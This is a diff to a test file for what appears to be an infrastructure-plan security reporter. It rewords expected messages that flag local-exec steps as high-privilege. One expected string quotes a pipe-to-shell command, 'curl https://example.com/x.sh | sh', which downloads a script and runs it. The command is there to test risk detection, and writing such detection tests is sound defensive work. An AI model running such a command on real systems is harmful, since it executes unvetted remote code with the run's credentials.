@@ -18,9 +18,9 @@ def test_a_program_is_told_with_its_command(infragen: Callable[..., Outcome]) ->
     told = " ".join(infragen("report", PLAN, "--format", "markdown").out.split())
     assert "HIGH (privilege" in told
     for said in (
-        "runs a program with the keys of this run (local-exec: curl https://example.com/x.sh | sh)",
-        "runs a program with the keys of this run (local-exec: echo replaced)",
-        "runs a program with the keys of this run (local-exec, of which the plan does not tell the command)",
+        "runs a program with this run's credentials (local-exec: curl https://example.com/x.sh | sh)",
+        "runs a program with this run's credentials (local-exec: echo replaced)",
+        "runs a program with this run's credentials (local-exec, whose command the plan does not show)",
     ):
         assert said in told.replace("\\", ""), told
     assert "FAKE-SECRET" not in told
